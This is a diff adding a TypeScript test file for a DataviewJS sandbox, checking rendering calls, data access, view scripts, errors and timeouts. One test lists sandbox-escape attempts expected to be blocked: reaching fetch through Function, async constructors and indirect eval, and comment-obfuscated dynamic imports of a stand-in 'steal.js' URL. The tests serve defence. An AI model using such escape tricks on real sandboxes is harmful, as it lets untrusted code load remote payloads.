@@ -0,0 +1,196 @@
+import { describe, expect, test } from 'bun:test'
+import type { BridgeValue } from './dataviewjs-bridge.fn'
+import { runInDataviewJSSandbox, type SandboxHandler } from './dataviewjs-sandbox'
+
+const link = (path: string): BridgeValue => ({ $bridge: 'link', path, embed: false, type: 'file' })
+
+const page = (name: string, priority: number): BridgeValue => ({
+    file: { name, link: link(`${name}.md`), tags: ['#project'] },
+    priority
+})
+
+/**
+ * Run code in the sandbox, with handlers recording the rendering calls
+ */
+const run = async (
+    jsCode: string,
+    extraHandlers: Record<string, SandboxHandler> = {},
+    timeoutMs = 2000
+) => {
+    const rendered: Array<[string, BridgeValue[]]> = []
+    const render =
+        (method: string): SandboxHandler =>
+        (...args) => {
+            rendered.push([method, args])
+            return null
+        }
+
+    await runInDataviewJSSandbox({
+        jsCode,
+        handlers: {
+            list: render('list'),
+            paragraph: render('paragraph'),
+            pages: () => [page('Alpha', 1), page('Beta', 3), page('Gamma', 2)],
+            ...extraHandlers
+        },
+        current: page('Home', 0),
+        timeoutMs
+    })
+    return rendered
+}
+
+describe('runInDataviewJSSandbox', () => {
+    test('should send the rendering calls to their handlers, awaited or not', async () => {
+        expect(await run('dv.list(["a", "b"])\nawait dv.paragraph("c")')).toEqual([
+            ['list', [['a', 'b']]],
+            ['paragraph', ['c']]
+        ])
+    })
+
+    test('should read data through the bridge, as data arrays', async () => {
+        const rendered = await run(`
+            const pages = await dv.pages("#project")
+            dv.list(pages.where(p => p.priority > 1).sort(p => p.priority, "desc").file.link)
+            dv.paragraph(pages.file.tags.distinct().length)
+        `)
+
+        expect(rendered).toEqual([
+            ['list', [[link('Beta.md'), link('Gamma.md')]]],
+            ['paragraph', [1]]
+        ])
+    })
+
+    test('should return the data read with literal arguments right away, as Dataview does', async () => {
+        const pages: SandboxHandler = (query) =>
+            query === '#none' ? [] : [page('Alpha', 1), page('Beta', 3)]
+
+        expect(
+            await run(
+                `dv.list(dv.pages("#project").file.link)
+                dv.paragraph(dv.pages('#none').length)
+                dv.paragraph((await dv.pages("#project")).length)`,
+                { pages }
+            )
+        ).toEqual([
+            ['list', [[link('Alpha.md'), link('Beta.md')]]],
+            ['paragraph', [0]],
+            ['paragraph', [2]]
+        ])
+    })
+
+    test('should ask for await when data read with computed arguments is used right away', async () => {
+        expect(
+            await run('const tag = "#project"\ndv.paragraph((await dv.pages(tag)).length)')
+        ).toEqual([['paragraph', [3]]])
+        await expect(
+            run('const tag = "#project"\ndv.list(dv.pages(tag).file.link)')
+        ).rejects.toThrow(
+            'dv.pages() returns a promise when its arguments are not literals: add await'
+        )
+        await expect(run('const tag = "#project"\ndv.list(dv.pages(tag))')).rejects.toThrow(
+            'add await'
+        )
+    })
+
+    test('should fail the literal calls whose read failed, when they are made', async () => {
+        const pages: SandboxHandler = () => {
+            throw new Error('Invalid source')
+        }
+
+        expect(
+            await run('try { dv.pages("#a") } catch (e) { dv.paragraph(e.message) }', { pages })
+        ).toEqual([['paragraph', ['Invalid source']]])
+    })
+
+    test('should name the members of Dataview that are not available', async () => {
+        await expect(run('dv.luxon.DateTime.now()')).rejects.toThrow(
+            'dv.luxon is not available in serialized DataviewJS queries: use dv.date()'
+        )
+    })
+
+    test('should keep dv.current() and the link builders synchronous', async () => {
+        expect(
+            await run(
+                'dv.paragraph(`${dv.current().file.name}: ${dv.current().file.link} ${dv.sectionLink("B", "Intro", false, "b")}`)'
+            )
+        ).toEqual([['paragraph', ['Home: [[Home.md]] [[B#Intro|b]]']]])
+    })
+
+    test('should run view scripts with input bound', async () => {
+        const scripts: Record<string, string> = {
+            'views/cards': 'await dv.view("views/list", input.items)',
+            'views/pages': 'dv.paragraph(dv.pages("#project").length)',
+            'views/list': 'dv.list(input)',
+            'views/loop': 'await dv.view("views/loop")'
+        }
+        const loadView: SandboxHandler = (viewName) => ({
+            path: `${String(viewName)}.js`,
+            contents: scripts[String(viewName)] ?? ''
+        })
+
+        expect(await run('await dv.view("views/cards", { items: ["a"] })', { loadView })).toEqual([
+            ['list', [['a']]]
+        ])
+        expect(await run('await dv.view("views/pages")', { loadView })).toEqual([
+            ['paragraph', [3]]
+        ])
+        await expect(run('await dv.view("views/loop")', { loadView })).rejects.toThrow(
+            'the view script views/loop.js calls itself'
+        )
+    })
+
+    test('should fail with the errors of the code and of the calls it did not handle', async () => {
+        const paragraph: SandboxHandler = () => {
+            throw new Error('Blocked')
+        }
+
+        await expect(run('throw new Error("Oops")')).rejects.toThrow('Oops')
+        await expect(run('dv.paragraph("a")', { paragraph })).rejects.toThrow('Blocked')
+        expect(await run('try { await dv.paragraph("a") } catch {}', { paragraph })).toEqual([])
+        await expect(run('await dv.unknown()')).rejects.toThrow('dv.unknown is not a function')
+    })
+
+    test('should not give access to the DOM nor to the bridge', async () => {
+        await expect(run('document.body.remove()')).rejects.toThrow()
+        expect(
+            await run('dv.paragraph(String(typeof self) + " " + String(typeof postMessage))')
+        ).toEqual([['paragraph', ['undefined undefined']]])
+    })
+
+    test('should not give access to the network, even through the global object', async () => {
+        expect(
+            await run(`dv.paragraph([
+                typeof fetch,
+                typeof XMLHttpRequest,
+                typeof WebSocket,
+                typeof importScripts,
+                typeof this.fetch,
+                typeof (function () { return this })()
+            ].join(" "))`)
+        ).toEqual([['paragraph', ['undefined undefined undefined undefined undefined undefined']]])
+        await expect(run('Function("return fetch")()')).rejects.toThrow(
+            'Creating code at runtime is not available'
+        )
+        await expect(run('(async () => {}).constructor("return fetch")()')).rejects.toThrow(
+            'Creating code at runtime is not available'
+        )
+        await expect(run('(0, eval)("fetch")')).rejects.toThrow(
+            'Creating code at runtime is not available'
+        )
+        await expect(run('await import("https://example.com/steal.js")')).rejects.toThrow(
+            'import() is not available'
+        )
+        await expect(
+            run('await import/**/("data:text/javascript,export default 1")')
+        ).rejects.toThrow('import() is not available')
+        await expect(
+            run('await import // the module\n<!-- loaded from\n("https://example.com/steal.js")')
+        ).rejects.toThrow('import() is not available')
+    })
+
+    test('should stop code running longer than the timeout', async () => {
+        await expect(run('while (true) {}', {}, 200)).rejects.toThrow(
+            'DataviewJS execution timed out after 200ms'
+        )
+    })
+})